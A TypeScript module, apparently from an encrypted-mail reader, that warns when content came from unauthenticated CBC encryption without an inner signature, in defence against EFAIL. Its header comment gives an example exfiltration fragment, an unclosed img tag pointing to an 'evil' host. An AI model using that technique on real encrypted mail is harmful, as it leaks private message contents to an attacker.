/**
 * Whether what a reader shows could have been changed on the way without anyone noticing
 * (EFAIL, Poddebniak et al., USENIX Security 2018). CBC content encryption (EnvelopedData)
 * does not detect changes: whoever holds the ciphertext can turn known plaintext blocks into
 * text of their choosing, such as an unclosed `<img src="http://evil/` in front of the
 * secret, without any key. AuthEnvelopedData (AES-GCM, RFC 5083/5084) is checked when
 * decrypted, and so is a good signature made inside the encryption over the content shown.
 * A signature around the encryption is a transport signature (src/cms/read-message.ts), not
 * shown, and does not count. The reader's notices and `cachet open` both say it from here.
 */
import type { ReadLayer } from '../cms/read-message';

/** A shown signature over what lies inside the encryption, whose signers all checked out. */
function goodShownSignature(layer: ReadLayer): boolean {
  return layer.kind === 'signed' && layer.shown && layer.layer.status === 'good';
}

/**
 * The note to show beside content that came out of an encryption layer that does not
 * detect changes, when no good signature inside that layer covers it; empty otherwise.
 * `layers` are the read layers, outermost first.
 */
export function unprotectedContentNotices(layers: readonly ReadLayer[]): string[] {
  for (const [index, layer] of layers.entries()) {
    if (layer.kind !== 'encrypted' || layer.decrypted.authenticated) continue;
    if (layers.slice(index + 1).some(goodShownSignature)) continue;
    return [`the message was encrypted with ${layer.decrypted.cipher}, which does not detect changes, and no good signature inside the encryption covers its content: it may have been altered on the way (EFAIL)`];
  }
  return [];
}
